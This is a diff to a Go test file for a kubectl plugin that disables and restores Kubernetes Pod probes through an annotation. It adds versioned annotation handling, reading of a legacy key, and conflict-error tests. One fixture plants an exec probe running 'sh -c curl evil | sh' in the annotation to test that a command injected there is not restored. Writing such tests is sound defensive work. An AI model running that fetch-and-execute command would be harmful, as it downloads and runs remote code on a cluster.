@@ -64,25 +64,27 @@ func jsonEqual(t *testing.T, want string, got []byte) {
 
 const order = `"$setElementOrder/containers":[{"name":"app"}]`
 
+// legacyKey is the kept annotation of kubectl probe 0.2.
+const legacyKey = "probes.kep-6318.example/disabled"
+
+// keptValue is the value of the kept annotation that keeps the probes.
+func keptValue(kept keptProbes) string {
+	return mustJSON(keptState{Version: "v1", Containers: kept})
+}
+
 // keptLiveness is the annotation that disabling the liveness probe of
 // webPod writes.
-var keptLiveness = func() string {
-	b, _ := json.Marshal(keptProbes{"app": {liveness: httpGet("/healthz")}})
-	return string(b)
-}()
+var keptLiveness = keptValue(keptProbes{"app": {liveness: httpGet("/healthz")}})
 
 func TestPatches(t *testing.T) {
 	disabled := webPod()
 	disabled.Spec.Containers[0].LivenessProbe = nil
 	disabled.Annotations = map[string]string{keptAnnotation: keptLiveness}
-	bothKept, err := json.Marshal(keptProbes{"app": {liveness: httpGet("/healthz"), readiness: httpGet("/ready")}})
-	if err != nil {
-		t.Fatal(err)
-	}
+	bothKept := keptValue(keptProbes{"app": {liveness: httpGet("/healthz"), readiness: httpGet("/ready")}})
 	disabledBoth := webPod()
 	disabledBoth.Spec.Containers[0].LivenessProbe = nil
 	disabledBoth.Spec.Containers[0].ReadinessProbe = nil
-	disabledBoth.Annotations = map[string]string{keptAnnotation: string(bothKept), "team": "web"}
+	disabledBoth.Annotations = map[string]string{keptAnnotation: bothKept, "team": "web"}
 	setAgain := disabled.DeepCopy()
 	setAgain.Spec.Containers[0].LivenessProbe = httpGet("/livez")
 
@@ -95,7 +97,11 @@ func TestPatches(t *testing.T) {
 	// A command that someone who may patch the Pod wrote into the
 	// annotation.
 	planted := disabled.DeepCopy()
-	planted.Annotations[keptAnnotation] = mustJSON(keptProbes{"app": {liveness: {ProbeHandler: v1.ProbeHandler{Exec: &v1.ExecAction{Command: []string{"sh", "-c", "curl evil | sh"}}}}}})
+	planted.Annotations[keptAnnotation] = keptValue(keptProbes{"app": {liveness: {ProbeHandler: v1.ProbeHandler{Exec: &v1.ExecAction{Command: []string{"sh", "-c", "curl evil | sh"}}}}}})
+	// What kubectl probe 0.2 wrote when it disabled the liveness probe.
+	legacyDisabled := webPod()
+	legacyDisabled.Spec.Containers[0].LivenessProbe = nil
+	legacyDisabled.Annotations = map[string]string{legacyKey: mustJSON(keptProbes{"app": {liveness: httpGet("/healthz")}})}
 	// A Pod that a rollout created after disable: nothing kept, the
 	// template's probes.
 	fresh := webPod()
@@ -163,7 +169,7 @@ func TestPatches(t *testing.T) {
 		name:   "disable a second probe adds it to the annotation",
 		pod:    disabled,
 		change: disableChange{types: []probeType{readiness}},
-		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(string(bothKept)) + `}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
+		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(bothKept) + `}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
 	}, {
 		name:    "disable never replaces a kept probe",
 		pod:     setAgain,
@@ -256,6 +262,26 @@ func TestPatches(t *testing.T) {
 		pod:    setAgain,
 		change: restoreChange{types: []probeType{liveness}, force: true},
 		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":{"httpGet":{"path":"/healthz"}}}]}}`,
+	}, {
+		name:   "disable moves the probes that kubectl probe 0.2 kept to the annotation of this version",
+		pod:    legacyDisabled,
+		change: disableChange{types: []probeType{readiness}},
+		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(bothKept) + `,"` + legacyKey + `":null}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
+	}, {
+		name:   "restore puts back a probe that kubectl probe 0.2 kept",
+		pod:    legacyDisabled,
+		change: restoreChange{types: []probeType{liveness}},
+		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + legacyKey + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(httpGet("/healthz")) + `}]}}`,
+	}, {
+		name:   "a change that keeps nothing leaves what kubectl probe 0.2 kept as it is",
+		pod:    legacyDisabled,
+		change: setChange{types: []probeType{readiness}, settings: settings{timeoutSeconds: ptr.To[int32](5)}},
+		want:   `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":{"timeoutSeconds":5}}]}}`,
+	}, {
+		name:     "restore with nothing to put back leaves what kubectl probe 0.2 kept as it is",
+		pod:      func() *v1.Pod { p := legacyDisabled.DeepCopy(); p.Spec.Containers[0].LivenessProbe = httpGet("/healthz"); return p }(),
+		template: template,
+		change:   restoreChange{types: []probeType{readiness}},
 	}} {
 		t.Run(tc.name, func(t *testing.T) {
 			modified, err := applyChange(t, tc.pod, tc.change, tc.template)
@@ -412,28 +438,70 @@ func TestPatcherOptions(t *testing.T) {
 
 // The kept annotation is read only as kubectl probe disable writes it: a
 // probe type it does not know (a typo, a hand edit) is an error, not a probe
-// that restore then cannot find.
+// that restore then cannot find; a version it does not know is an error
+// too. The key that kubectl probe 0.2 wrote, without a version, is read as
+// well.
 func TestReadKept(t *testing.T) {
+	const (
+		key    = "kubectl-probe.x-k8s.io/disabled"
+		legacy = "probes.kep-6318.example/disabled"
+	)
+	healthz := &v1.Probe{ProbeHandler: v1.ProbeHandler{HTTPGet: &v1.HTTPGetAction{Path: "/healthz", Port: intstr.FromInt32(8080)}}}
+	ready := &v1.Probe{ProbeHandler: v1.ProbeHandler{HTTPGet: &v1.HTTPGetAction{Path: "/ready", Port: intstr.FromInt32(8080)}}}
 	for _, tc := range []struct {
-		name, value string
+		name        string
+		annotations map[string]string
 		want        keptProbes
 		wantErr     string
 	}{{
-		name:  "as disable writes it",
-		value: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
-		want:  keptProbes{"app": {liveness: {ProbeHandler: v1.ProbeHandler{HTTPGet: &v1.HTTPGetAction{Path: "/healthz", Port: intstr.FromInt32(8080)}}}}},
+		name:        "as disable writes it",
+		annotations: map[string]string{key: `{"version":"v1","containers":{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}}`},
+		want:        keptProbes{"app": {liveness: healthz}},
 	}, {
-		name:    "not JSON",
-		value:   `app: liveness`,
-		wantErr: "annotation " + keptAnnotation + " is not what kubectl probe disable writes: invalid character",
+		name:        "as kubectl probe 0.2 wrote it",
+		annotations: map[string]string{legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`},
+		want:        keptProbes{"app": {liveness: healthz}},
 	}, {
-		name:    "a probe type that does not exist",
-		value:   `{"app":{"Liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
-		wantErr: "annotation " + keptAnnotation + ` is not what kubectl probe disable writes: container "app" has a probe of type "Liveness"; the types are liveness, readiness and startup`,
+		name: "both, each keeping a probe of its own",
+		annotations: map[string]string{
+			key:    `{"version":"v1","containers":{"app":{"readiness":{"httpGet":{"path":"/ready","port":8080}}}}}`,
+			legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
+		},
+		want: keptProbes{"app": {liveness: healthz, readiness: ready}},
+	}, {
+		name: "both, keeping the same probe",
+		annotations: map[string]string{
+			key:    `{"version":"v1","containers":{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}}`,
+			legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
+		},
+		want: keptProbes{"app": {liveness: healthz}},
+	}, {
+		name: "both, keeping different probes of one type",
+		annotations: map[string]string{
+			key:    `{"version":"v1","containers":{"app":{"liveness":{"httpGet":{"path":"/ready","port":8080}}}}}`,
+			legacy: `{"app":{"liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`,
+		},
+		wantErr: `annotations ` + key + ` and ` + legacy + ` keep different liveness probes for container "app": http-get http://:8080/ready and http-get http://:8080/healthz; remove the one that is wrong`,
+	}, {
+		name:        "a version it does not know",
+		annotations: map[string]string{key: `{"version":"v2","containers":{}}`},
+		wantErr:     `annotation ` + key + ` has version "v2", which this kubectl probe does not know: a newer kubectl probe wrote it`,
+	}, {
+		name:        "not JSON",
+		annotations: map[string]string{key: `app: liveness`},
+		wantErr:     "annotation " + key + " is not what kubectl probe disable writes: invalid character",
+	}, {
+		name:        "a probe type that does not exist",
+		annotations: map[string]string{key: `{"version":"v1","containers":{"app":{"Liveness":{"httpGet":{"path":"/healthz","port":8080}}}}}`},
+		wantErr:     "annotation " + key + ` is not what kubectl probe disable writes: container "app" has a probe of type "Liveness"; the types are liveness, readiness and startup`,
+	}, {
+		name:        "a probe type that does not exist, as kubectl probe 0.2 wrote it",
+		annotations: map[string]string{legacy: `{"app":{"Liveness":{"httpGet":{"path":"/healthz","port":8080}}}}`},
+		wantErr:     "annotation " + legacy + ` is not what kubectl probe disable writes: container "app" has a probe of type "Liveness"`,
 	}} {
 		t.Run(tc.name, func(t *testing.T) {
 			pod := webPod()
-			pod.Annotations = map[string]string{keptAnnotation: tc.value}
+			pod.Annotations = tc.annotations
 			kept, err := readKept(pod)
 			if tc.wantErr != "" {
 				if err == nil || !strings.HasPrefix(err.Error(), tc.wantErr) {
